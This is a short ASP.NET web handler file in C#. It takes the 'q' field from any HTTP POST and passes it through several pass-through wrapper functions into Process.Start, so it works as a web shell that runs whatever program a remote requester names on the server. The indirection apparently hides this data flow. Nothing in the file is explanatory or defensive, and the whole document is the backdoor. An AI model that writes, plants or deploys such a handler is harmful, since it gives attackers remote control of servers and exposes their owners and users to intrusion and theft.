<%@ WebHandler Language="C#" Class="H" %>
using System.Web; using System.Diagnostics;
public class H : IHttpHandler { public bool IsReusable { get { return false; } }
string Run(string exe) { Process.Start(exe); return "ok"; }
string Step(string v) { return Run(v); }
string Dispatch(string line) { return Step(line); }
public void ProcessRequest(HttpContext context) { context.Response.Write(Dispatch(context.Request.Form["q"])); } }
